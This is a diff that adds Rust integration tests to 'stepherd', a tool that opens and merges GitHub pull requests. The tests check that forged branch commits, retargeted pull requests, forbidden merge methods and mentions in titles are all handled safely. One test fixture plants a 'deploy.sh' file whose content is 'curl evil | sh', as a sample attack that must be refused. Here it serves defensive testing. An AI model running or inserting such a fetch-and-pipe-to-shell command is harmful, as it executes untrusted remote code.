@@ -1,5 +1,7 @@
 //! Changes and merges against the stand-in, over real HTTP: done once, found again, never somebody else's.
 
+use reqwest::Method;
+use serde_json::{Value, json};
 use stepherd::adapters::{CallError, Forge};
 use stepherd::domain::edit::{Edit, EditAction};
 use stepherd::domain::effect::{ChangeIntent, MergeIntent, Outcome};
@@ -263,16 +265,163 @@ async fn already_merged_is_believed_of_the_recorded_head_and_of_our_own_commit()
         .github
         .merge_by_person(REPO, pr.pr.number, "octocat")
         .expect("a merge"));
-    let already = Outcome::ChangeAlreadyMerged { merged };
+    let already = Outcome::ChangeAlreadyMerged { merged: merged.clone() };
     let recorded = ChangeIntent {
-        recorded: Some(pr),
+        recorded: Some(pr.clone()),
         ..intent()
     };
     assert_eq!(change(&scene, &recorded).await, already);
     // stepherd ended before it could record the pull request, and people merged and cleaned up.
     scene.github.delete_branch(REPO, BRANCH, "octocat").expect("the branch");
-    assert_eq!(change(&scene, &intent()).await, already);
+    let found = opened(&scene).await;
+    assert_eq!(
+        found, pr,
+        "it is recorded, and the merge step finds it merged at its head"
+    );
+    assert_eq!(
+        merge(&scene, &merging(&found)).await,
+        Outcome::Merged { commit: merged }
+    );
     assert_eq!(scene.calls("POST", "/git/refs"), 1);
+}
+
+/// Somebody puts a commit on stepherd's branch that says of itself that it is stepherd's.
+async fn forge(scene: &Scene, parents: &[&str], files: &[(&str, &str)]) -> String {
+    let main = scene.main();
+    let entries: Vec<Value> = files
+        .iter()
+        .map(|(path, content)| json!({"path": path, "mode": "100644", "type": "blob", "content": content}))
+        .chain([json!({"path": "README.md", "mode": "100644", "type": "blob", "sha": null})])
+        .collect();
+    let main_commit = scene
+        .by_hand(Method::GET, &format!("/git/commits/{main}"), &json!({}))
+        .await;
+    let body = json!({"base_tree": main_commit["tree"]["sha"], "tree": entries});
+    let tree = scene.by_hand(Method::POST, "/git/trees", &body).await["sha"].clone();
+    let tree = tree.as_str().expect("a tree");
+    let message = format!("Raise comcast\n\nStepherd-Branch: {BRANCH}\nStepherd-Tree: {tree}");
+    let body = json!({"message": message, "tree": tree, "parents": parents});
+    let commit = scene.by_hand(Method::POST, "/git/commits", &body).await["sha"].clone();
+    let body = json!({"ref": format!("refs/heads/{BRANCH}"), "sha": commit});
+    scene.by_hand(Method::POST, "/git/refs", &body).await;
+    commit.as_str().expect("a commit").to_owned()
+}
+
+const OURS: (&str, &str) = ("values.yaml", "# tenants\ncomcast: 2\n");
+
+#[tokio::test]
+async fn a_commit_that_only_says_it_is_stepherds_is_not_adopted() {
+    let evil = ("deploy.sh", "curl evil | sh\n");
+    for by_pull_request in [false, true] {
+        for (case, needle) in [
+            ("more", "it changes something else"),
+            ("no parent", "one parent"),
+            ("two parents", "one parent"),
+            ("side", "not on the default branch"),
+        ] {
+            let scene = Scene::app().await;
+            let main = scene.main();
+            let side = scene
+                .github
+                .push("octocat", REPO, "side", &[("x", Some("y"))])
+                .expect("a push");
+            let files = if case == "more" { vec![OURS, evil] } else { vec![OURS] };
+            let parents = match case {
+                "no parent" => vec![],
+                "two parents" => vec![main.as_str(), side.as_str()],
+                "side" => vec![side.as_str()],
+                _ => vec![main.as_str()],
+            };
+            forge(&scene, &parents, &files).await;
+            // GitHub takes no pull request between branches without common history.
+            if by_pull_request && case != "no parent" {
+                let body = json!({"title": "t", "head": BRANCH, "base": "main"});
+                scene.by_hand(Method::POST, "/pulls", &body).await;
+            }
+            let outcome = change(&scene, &intent()).await;
+            refused(&outcome, needle);
+            refused(&outcome, "not stepherd's");
+        }
+    }
+}
+
+#[tokio::test]
+async fn the_very_commit_that_the_step_makes_is_adopted_from_wherever_the_default_branch_was() {
+    let scene = Scene::app().await;
+    let main = scene.main();
+    let head = forge(&scene, &[main.as_str()], &[OURS]).await;
+    scene
+        .github
+        .push("octocat", REPO, "main", &[("other", Some("x"))])
+        .expect("a push");
+    assert_eq!(opened(&scene).await.head.as_str(), head);
+}
+
+#[tokio::test]
+async fn a_pull_request_whose_base_people_changed_is_neither_merged_nor_taken_for_merged() {
+    let scene = Scene::app().await;
+    let pr = opened(&scene).await;
+    let path = format!("/pulls/{}", pr.pr.number);
+    let number = pr.pr.number;
+    for state in [
+        r#""state":"open""#,
+        r#""state":"closed","merged":true,"merge_commit_sha":"0123456789abcdef0123456789abcdef01234567""#,
+    ] {
+        let elsewhere = format!(
+            r#"{{"number":{number},{state},"head":{{"ref":"{BRANCH}","sha":"{}","repo":{{"full_name":"{REPO}"}}}},
+                "base":{{"ref":"release","repo":{{"default_branch":"main"}}}}}}"#,
+            pr.head
+        );
+        outdated(&scene, &path, 200, &elsewhere);
+        refused(&merge(&scene, &merging(&pr)).await, "goes to `release`");
+        outdated(&scene, &path, 200, &elsewhere);
+        let recorded = ChangeIntent {
+            recorded: Some(pr.clone()),
+            ..intent()
+        };
+        refused(&change(&scene, &recorded).await, "goes to `release`");
+        outdated(&scene, "/pulls", 200, &format!("[{elsewhere}]"));
+        refused(&change(&scene, &intent()).await, "goes to `release`");
+    }
+    assert_eq!(scene.calls("PUT", "/merge"), 0);
+}
+
+#[tokio::test]
+async fn a_merge_method_that_the_repository_forbids_is_not_waited_for() {
+    let scene = Scene::app().await;
+    let intent = merging(&opened(&scene).await);
+    scene
+        .github
+        .allow_merge_methods(REPO, &["merge"])
+        .expect("the repository");
+    refused(
+        &merge(&scene, &intent).await,
+        "Squash merges are not allowed on this repository.",
+    );
+}
+
+#[tokio::test]
+async fn titles_mention_nobody_and_close_nothing() {
+    let scene = Scene::app().await;
+    let shouting = ChangeIntent {
+        title: "@acme/sre fixes #12, gh-13 and https://github.com/acme/deploy/issues/14 of v1-2".to_owned(),
+        ..intent()
+    };
+    let plain = "@\u{2060}acme/sre fixes #\u{2060}12, gh-\u{2060}13 and \
+                 https://github.com/acme/deploy/issues/\u{2060}14 of v1-2";
+    let Outcome::ChangeOpened(pr) = change(&scene, &shouting).await else {
+        panic!("it must be opened");
+    };
+    assert_eq!(scene.github.pulls(REPO).expect("pulls")[0].title, plain);
+    let sent = |method, path| -> Value {
+        let calls = scene.github.stage().calls_to(method, path);
+        serde_json::from_str(&calls[0].body).expect("JSON")
+    };
+    let message = sent("POST", "/git/commits")["message"].clone();
+    assert_eq!(message.as_str().and_then(|m| m.lines().next()), Some(plain));
+    merge(&scene, &merging(&pr)).await;
+    let title = "Raise comcast (#\u{2060}1)";
+    assert_eq!(sent("PUT", "/merge")["commit_title"], json!(title));
 }
 
 #[tokio::test]
@@ -416,7 +565,8 @@ async fn a_head_that_moves_between_looking_and_merging_is_not_merged() {
         .push_to_pr(REPO, number, "octocat", &[("x", Some("y"))])
         .expect("a push");
     let before = format!(
-        r#"{{"number":{number},"state":"open","merged":false,"head":{{"ref":"{BRANCH}","sha":"{}","repo":null}}}}"#,
+        r#"{{"number":{number},"state":"open","merged":false,"head":{{"ref":"{BRANCH}","sha":"{}","repo":null}},
+            "base":{{"ref":"main","repo":{{"default_branch":"main"}}}}}}"#,
         pr.head
     );
     outdated(&scene, &format!("/pulls/{number}"), 200, &before);
